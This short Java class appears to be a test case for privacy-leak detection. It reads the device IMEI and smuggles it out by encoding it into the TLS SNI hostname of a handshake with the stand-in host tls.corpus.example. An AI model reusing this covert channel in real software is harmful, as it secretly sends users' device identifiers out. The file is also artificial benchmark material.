package org.corpus;

import java.net.InetAddress;
import java.net.Socket;
import javax.net.ssl.SSLSocket;
import javax.net.ssl.SSLSocketFactory;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** Says the secret as the name of whom it wants to speak to. */
public class SniName extends Screen {
    @Override
    protected void act() throws Exception {
        InetAddress place = InetAddress.getByName("tls.corpus.example");
        SSLSocketFactory factory = (SSLSocketFactory) SSLSocketFactory.getDefault();
        Socket plain = new Socket(place, 443);
        String name = "i" + Owner.imei(this) + ".tls.corpus.example";
        try (SSLSocket socket = (SSLSocket) factory.createSocket(plain, name, 443, true)) {
            socket.startHandshake();
        }
    }
}
